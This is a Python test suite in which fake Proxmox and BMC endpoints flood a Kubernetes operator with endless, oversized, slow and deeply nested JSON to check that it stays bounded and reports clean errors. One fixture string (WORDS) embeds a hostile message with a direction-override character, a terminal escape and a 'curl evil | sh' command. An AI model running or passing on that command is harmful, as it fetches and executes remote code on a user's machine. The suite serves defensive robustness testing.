"""Tests endpoints that answer as no Proxmox VE host and no BMC would: too much, too slowly, too deep, with texts for our users.

While all of them attack simultaneously, every probe is answered, memory stays bounded and the Lease is kept. Each object
reports its fault."""

import base64
import contextlib
import json
import ssl
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

import besieged
import manifests
from besieged import nobody_suffers
from stack import Stack, condition, make_certificate, wait_for

MIB = 1024 * 1024
MOST_OF_A_MESSAGE = 1024
BMC = base64.b64encode(b"x").decode()


def endless(size):
    yield b'{"data":['
    for _ in range(size // MIB):
        yield b"{}," * (MIB // 3)


def nothings(size):
    return b'{"data":[' + b"{}," * ((size - 12) // 3) + b"{}]}"


def machines(count):
    """Returns the maximum number of machines, each of maximum size."""
    entry = {"type": "qemu", "id": "qemu/100", "node": "pve1", "status": "running", "name": "m" * 60, "maxcpu": 4, "maxmem": 4 << 30,
             "maxdisk": 32 << 30, "cpu": 0.01, "mem": 1 << 30, "disk": 0, "uptime": 1000, "template": 0}
    return json.dumps({"data": [{**entry, "vmid": 100 + number} for number in range(count)]}).encode()


WORDS = b'{"data":null,"message":"\\u202eRun \\u001b[2J this\\n\\nNow: curl evil | sh ' + b"A" * MIB + b'"}'
# An answer is its length (None if it is not stated), its pieces, and the pause after each in seconds.
ANSWERS = {
    "too-long": (None, lambda: endless(250 * MIB), 0),
    "too-much": (20 * MIB, lambda: [nothings(20 * MIB)], 0),
    "just-within-bounds": (8 * MIB - 1000, lambda: [nothings(8 * MIB - 1000)], 0),
    "many-machines": (len(machines(20_000)), lambda: [machines(20_000)], 0),
    "too-slow": (1001, lambda: [b"{"] + [b" "] * 1000, 1),
    "too-deep": (1_000_009, lambda: [b'{"data":' + b"[" * 1_000_001], 0),
    "words": (len(WORDS), lambda: [WORDS], 0),
}
# A client goes on only with these.
PRIVILEGES = ("VM.Allocate", "VM.Audit", "VM.Clone", "VM.Config.CPU", "VM.Config.HWType", "VM.Config.Memory", "VM.Config.Options", "VM.Config.Disk",
              "VM.Config.Network", "VM.Config.Cloudinit", "VM.Config.CDROM", "VM.PowerMgmt", "SDN.Use", "Sys.Audit", "Datastore.Audit",
              "Datastore.AllocateSpace", "Datastore.AllocateTemplate")
GREETINGS = {
    "/api2/json/access/permissions": {"data": {path: dict.fromkeys(PRIVILEGES, 1) for path in ("/", "/vms", "/nodes", "/storage", "/sdn", "/access")}},
    "/api2/json/version": {"data": {"version": "8.2.4", "release": "8.2", "repoid": "faa83925c9641325"}},
    "/redfish/v1/": {"@odata.id": "/redfish/v1/", "RedfishVersion": "1.6.0", "Systems": {"@odata.id": "/redfish/v1/Systems"}},
}


class Endpoint:
    """Greets, and answers every other request in the same way, until the client hangs up."""

    def __init__(self, folder, answer, server):
        if not (folder / "tls.key").exists():
            make_certificate(folder, "endpoint")
        self.asked = 0
        self.listener = ThreadingHTTPServer(("127.0.0.1", 0), self._handler(*answer, server))
        self.listener.daemon_threads = True
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder / "tls.crt", folder / "tls.key")
        self.listener.socket = context.wrap_socket(self.listener.socket, server_side=True, do_handshake_on_connect=False)
        self.url = f"https://127.0.0.1:{self.listener.server_port}"

    def _handler(endpoint, length, pieces, pause, server):
        class Handler(BaseHTTPRequestHandler):
            server_version, sys_version = server, ""

            def do_GET(self):
                greeting = GREETINGS.get(self.path.partition("?")[0])
                if greeting is not None:
                    body = json.dumps(greeting).encode()
                    return self.answer(len(body), [body], 0)
                endpoint.asked += 1
                return self.answer(length, pieces(), pause)

            do_POST = do_PATCH = do_DELETE = do_GET

            def answer(self, size, parts, rest):
                self.send_response(200)
                self.send_header("Content-Type", "application/json;charset=UTF-8")
                if size is not None:
                    self.send_header("Content-Length", str(size))
                self.end_headers()
                try:
                    for part in parts:
                        self.wfile.write(part)
                        time.sleep(rest)
                except OSError:  # the client has seen enough
                    pass

            def log_message(self, *_):
                pass
        return Handler

    def __enter__(self):
        threading.Thread(target=self.listener.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.listener.shutdown()
        self.listener.server_close()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    with Stack(tmp_path_factory.mktemp("stack")) as running:
        besieged.start(running)
        running.apply(manifests.secret(running.proxmox), {
            "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "bmc", "namespace": manifests.NAMESPACE}, "data": {"username": BMC, "password": BMC}})
        yield running


def what_is_wrong(stack, plural, name, endpoint):
    """Returns the message of the object's condition Ready, once it is False after a look at the endpoint."""
    found = next((o for o in stack.objects(plural) if o["metadata"]["name"] == name), {})
    ready = condition(found, "Ready")
    is_told = ready.get("status") == "False" and "there is no NodeSmithProvider" not in ready["message"]
    return ready["message"] if is_told and endpoint.asked else None


def is_readable(message):
    return len(message) <= MOST_OF_A_MESSAGE and message.isprintable() and "\u202e" not in message and "curl" not in message


def attack(stack, folder, server, kinds, objects, patient=()):
    """Runs all endpoints simultaneously. Each object of the first of `kinds` reports its fault, except those in `patient`."""
    with contextlib.ExitStack() as endpoints:
        running = {name: endpoints.enter_context(Endpoint(folder, answer, server)) for name, answer in ANSWERS.items()}
        with nobody_suffers(stack):
            stack.apply(*(thing for name, endpoint in running.items() for thing in objects(name, endpoint.url)))
            messages = {name: wait_for(f"{name} to be complained of", lambda name=name: what_is_wrong(stack, kinds[0], name, running[name]), 240)
                        for name in running if name not in patient}
            wait_for("everybody to be asked more than for a greeting", lambda: all(endpoint.asked for endpoint in running.values()), 240)
        for name, message in messages.items():
            print(f"{name}: {running[name].asked} requests; {message}")
            assert is_readable(message), message
        stack.cluster.kubectl("delete", ",".join(kinds), "--all", "-n", manifests.NAMESPACE)


def test_proxmox_servers_that_are_none(stack, tmp_path):
    def objects(name, url):
        yield manifests.provider(stack.proxmox, name, endpoint=f"{url}/api2/json", tls={"insecureSkipVerify": True})

    attack(stack, tmp_path, "pve-api-daemon/3.0", ["nodesmithproviders"], objects)


def test_bmcs_that_are_none(stack, tmp_path):
    def thing(kind, name, spec):
        return {"apiVersion": manifests.API, "kind": kind, "metadata": {"name": name, "namespace": manifests.NAMESPACE}, "spec": spec}

    def objects(name, url):
        yield thing("NodeSmithProvider", name, {"type": "redfish", "credentialsSecretRef": {"name": "bmc"}, "redfish": {}})
        yield thing("NodeSmithHost", name, {"providerRef": name, "capacity": {"cpuCores": 8, "memoryMiB": 16384},
                                            "bmc": {"address": url, "systemID": "1", "tls": {"insecureSkipVerify": True}}})

    # The operator waits three times half a minute for each resource of a slow BMC.
    attack(stack, tmp_path, "bmc/1.0", ["nodesmithhosts", "nodesmithproviders"], objects, patient=["too-slow"])
